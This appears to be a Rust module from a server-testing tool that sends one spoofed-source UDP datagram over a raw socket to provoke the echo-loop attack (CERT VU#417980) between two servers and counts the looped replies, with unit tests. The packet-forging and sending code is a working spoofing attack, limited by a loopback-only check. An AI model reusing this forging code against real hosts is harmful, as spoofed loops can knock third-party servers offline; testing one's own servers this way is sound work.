//! The echo-loop attack (CERT VU#417980): one datagram to server B that claims to come from server A.
//!
//! B answers A; if A takes the answer for a question, the two answer each other for ever. A raw
//! socket sends the forged datagram, and the same socket sees a copy of every UDP datagram that
//! arrives on this machine (`raw(7)`), so what follows can be counted one by one. Only on loopback
//! addresses: the point is to test one's own servers. Needs root or `CAP_NET_RAW`.

use std::io::{ErrorKind, Read};
use std::net::{SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use socket2::{Domain, Protocol, Socket, Type};

use crate::report::Report;

// IPv4 (RFC 791 §3.1) without options, then UDP (RFC 768):
//
//  0                   1                   2                   3
//  0 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8 9 0 1
// +-------+-------+---------------+-------------------------------+
// |   4   |   5   |  type of serv.|          total length         |
// +-------+-------+---------------+-------------------------------+
// |         identification        |         fragment offset       |
// +---------------+---------------+-------------------------------+
// |  time to live |  protocol 17  |            checksum           |
// +---------------+---------------+-------------------------------+
// |                         source address                        |
// +---------------------------------------------------------------+
// |                      destination address                      |
// +-------------------------------+-------------------------------+
// |          source port          |        destination port       |
// +-------------------------------+-------------------------------+
// |             length            |        checksum (0: none)     |
// +-------------------------------+-------------------------------+
const IP_LEN: usize = 20;
const UDP_LEN: usize = 8;
const VERSION_4_LEN_5: u8 = 0x45;
const TIME_TO_LIVE: u8 = 64;
const PROTOCOL_UDP: u8 = 17;

/// Sends one datagram to `b` in the name of `a` and counts, for `watched`, what passes between them.
///
/// # Errors
///
/// When the addresses are not loopback addresses, the right to a raw socket is missing, or the
/// forged datagram did not arrive (then the count would mean nothing).
pub fn attack(a: SocketAddrV4, b: SocketAddrV4, message: &str, watched: Duration) -> Result<Report> {
    ensure!(a.ip().is_loopback() && b.ip().is_loopback(), "spoof {a} to {b}: only between loopback addresses");
    let socket = raw_socket().context("open a raw socket, which needs root or CAP_NET_RAW (try `unshare --net -r`)")?;
    let forged = forge(a, b, message.as_bytes());
    socket.send_to(&forged, &SocketAddr::V4(b).into()).with_context(|| format!("send to {b} in the name of {a}"))?;

    let seen = count(&socket, a, b, Instant::now() + watched)?;
    ensure!(seen > 0, "spoof {a} to {b}: the forged datagram did not arrive");
    let mut report = Report::default();
    report.millis("watched_ms", watched);
    report.count("further", seen - 1);
    Ok(report)
}

fn raw_socket() -> std::io::Result<Socket> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))?;
    socket.set_header_included_v4(true)?;
    Ok(socket)
}

/// The whole packet, except the IP checksum, which the kernel fills in.
fn forge(source: SocketAddrV4, destination: SocketAddrV4, message: &[u8]) -> Vec<u8> {
    let udp_len = (UDP_LEN + message.len()) as u16;
    let total_len = IP_LEN as u16 + udp_len;
    let mut packet = Vec::with_capacity(total_len.into());
    packet.extend([VERSION_4_LEN_5, 0]);
    packet.extend(total_len.to_be_bytes());
    packet.extend([0; 4]);
    packet.extend([TIME_TO_LIVE, PROTOCOL_UDP, 0, 0]);
    packet.extend(source.ip().octets());
    packet.extend(destination.ip().octets());
    packet.extend(source.port().to_be_bytes());
    packet.extend(destination.port().to_be_bytes());
    packet.extend(udp_len.to_be_bytes());
    packet.extend([0; 2]);
    packet.extend(message);
    packet
}

fn count(socket: &Socket, a: SocketAddrV4, b: SocketAddrV4, until: Instant) -> Result<u64> {
    let mut buffer = [0; 64 * 1024];
    let mut seen = 0;
    loop {
        let left = until.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Ok(seen);
        }
        socket.set_read_timeout(Some(left))?;
        let mut source = socket;
        match source.read(&mut buffer) {
            Ok(len) => {
                let ends = ends_of(&buffer[..len]);
                seen += u64::from(ends == Some((a, b)) || ends == Some((b, a)));
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(error) => return Err(error).context("receive on the raw socket"),
        }
    }
}

/// Source and destination of a UDP packet; `None` when it is too short to have them.
fn ends_of(packet: &[u8]) -> Option<(SocketAddrV4, SocketAddrV4)> {
    let ip = packet.first_chunk::<IP_LEN>()?;
    // The low half of the first byte counts the header's 32-bit words, options included.
    let ip_len = usize::from(ip[0] & 0x0f) * 4;
    let udp = packet.get(ip_len..)?.first_chunk::<UDP_LEN>()?;
    let end = |at: usize, port: [u8; 2]| {
        let address = [ip[at], ip[at + 1], ip[at + 2], ip[at + 3]];
        SocketAddrV4::new(address.into(), u16::from_be_bytes(port))
    };
    Some((end(12, [udp[0], udp[1]]), end(16, [udp[2], udp[3]])))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_packet_names_both_ends_and_its_lengths() {
        let a = "127.0.0.1:9999".parse().unwrap();
        let b = "127.0.0.2:8888".parse().unwrap();
        let packet = forge(a, b, "早安".as_bytes());
        assert_eq!(ends_of(&packet), Some((a, b)));
        assert_eq!(packet.len(), 34);
        assert_eq!(packet[2..4], [0, 34]);
        assert_eq!(packet[24..26], [0, 14]);
    }

    #[test]
    fn every_cut_packet_has_no_ends() {
        let a = "127.0.0.1:9999".parse().unwrap();
        let packet = forge(a, a, b"");
        for len in 0..packet.len() {
            assert_eq!(ends_of(&packet[..len]), None, "{len} bytes");
        }
    }

    #[test]
    fn other_peoples_addresses_are_refused() {
        let own = "127.0.0.1:9999".parse().unwrap();
        let other = "192.0.2.1:7".parse().unwrap();
        let error = attack(other, own, "x", Duration::ZERO).unwrap_err();
        assert!(error.to_string().contains("only between loopback"));
    }
}
